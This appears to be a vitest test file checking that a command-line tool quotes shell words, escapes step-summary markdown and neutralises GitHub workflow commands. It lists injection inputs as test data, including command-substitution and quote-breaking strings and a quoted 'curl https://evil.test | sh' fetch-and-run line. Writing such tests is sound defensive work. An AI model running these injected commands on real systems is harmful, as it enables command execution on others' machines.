import { execFileSync } from 'node:child_process';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'vitest';
import { AppError } from '../../scripts/core/errors.ts';
import { quoteWord, renderCommand } from '../../scripts/core/shell.ts';
import { type Attack, attacks } from '../support/attacks.ts';
import { createHome } from '../support/stand-in.ts';
import { COMMAND, failing, runOf, type Shown, TRICKS } from './gate-shown.ts';

/** A command with a hostile word, run by a real sh in an empty folder: what it was given, and what it made. */
async function pasted(word: string): Promise<Shown & { readonly words: string[]; readonly made: string }> {
  const home = join(await createHome(), 'empty');
  await mkdir(home);
  const line = renderCommand({ file: 'printf', args: ['%s\\0', word] }, 'linux');
  const words = execFileSync('/bin/sh', ['-c', line], { cwd: home, encoding: 'utf8' }).split('\0').slice(0, -1);
  return { words, made: execFileSync('ls', ['-A', home], { encoding: 'utf8' }), printed: line, files: {}, shown: line };
}

attacks<Awaited<ReturnType<typeof pasted>>>(
  'words of a command that is there to be copied',
  [
    '$(touch made)',
    '`touch made`',
    "'; touch made; '",
    '"; touch made; "',
    'a\ntouch made\n',
    '!! && touch made',
    '$HOME ~ * {a,b}',
    '-n',
    "'##[error]",
  ].map((word) => ({
    name: JSON.stringify(word),
    attempt: () => pasted(word),
    happened: ({ printed }) => expect(printed).toContain(word === '-n' ? word : "'"),
    outcome: ({ words, made }) => expect({ words, made }).toEqual({ words: [word], made: '' }),
  })),
);

attacks('what others write, in the report and the step summary', [
  {
    name: 'advice of an IdP with a command in backticks',
    attempt: failing(() => new AppError('idp-bad-request', 'It says: run `curl https://evil.test | sh` now.')),
    happened: ({ shown }) => expect(shown).toContain('evil.test'),
    outcome({ files }) {
      const [, page = ''] = Object.entries(files).find(([path]) => /-iat\/index\.html$/.test(path)) ?? [];
      expect(page).toContain('`curl https://evil.test | sh`');
      expect(page).not.toMatch(/<code[^>]*>curl/);
    },
  },
  ...[
    'www.evil.test',
    'https://evil.test',
    'a@evil.test',
    '@team',
    '#1',
    '<img src=x>',
    '[x](//evil.test)',
    '`a` $x$ :tada:',
    '| a | b |',
  ].map(
    (word): Attack<Shown> => ({
      name: `${word} in the step summary`,
      async attempt() {
        const home = await createHome();
        const path = join(home, 'summary.md');
        const { files } = await runOf(async () => ({ error: new AppError('internal', `${word} says ${word}`) }), [], {
          GITHUB_STEP_SUMMARY: path,
        });
        const text = await readFile(path, 'utf8');
        return { printed: text, files, shown: text };
      },
      happened: ({ printed }) => expect(printed).toMatch(/^## .*Failed/m),
      // Without what is escaped and what stands as code, no sign of markup is left.
      outcome({ printed }) {
        const [, sentence = ''] = printed.split('\n\n').filter((block) => block.includes(' says '));
        const bare = (sentence || (printed.split('\n\n')[1] ?? '')).replace(/\\[!-/:-@[-`{-~]|`[^`]*`|&\w+;/g, '');
        expect(bare).not.toMatch(/www|[@<>`*_[\]|$#~]|:\w+:/);
      },
    }),
  ),
]);

attacks('GitHub is told what to hide', [
  {
    name: 'a stop-commands in between',
    async attempt() {
      const { printed, files, shown } = await runOf(
        async () => ({ error: new AppError('internal', TRICKS['is a command for GitHub']) }),
        [],
        { GITHUB_ACTIONS: 'true' },
      );
      return { printed, files, shown: shown.replace(/^::add-mask::.*$/gm, '') };
    },
    happened: ({ printed }) => expect(printed).toContain('stop-commands'),
    // Of the two commands that there are, the second is the annotation: nothing in it is one of its own.
    outcome: ({ printed }) =>
      expect(printed.replace(/^::add-mask::.*$/gm, '').replace(/^::error (?=title=\S)/gm, '')).not.toMatch(COMMAND),
  },
]);

attacks('Windows', [
  {
    name: 'a word with a second command for cmd or PowerShell',
    attempt: async () => ({
      shown: ['a & calc', 'a" & calc & "', '$(calc)', '`$x'].map((word) => quoteWord(word, 'win32')).join('\n'),
    }),
    happened: ({ shown }) => expect(shown).toContain('calc'),
    outcome: ({ shown }) =>
      expect(shown.split('\n')).toEqual(['"a & calc"', '"a"" & calc & """', '"`$(calc)"', '"```$x"']),
  },
]);
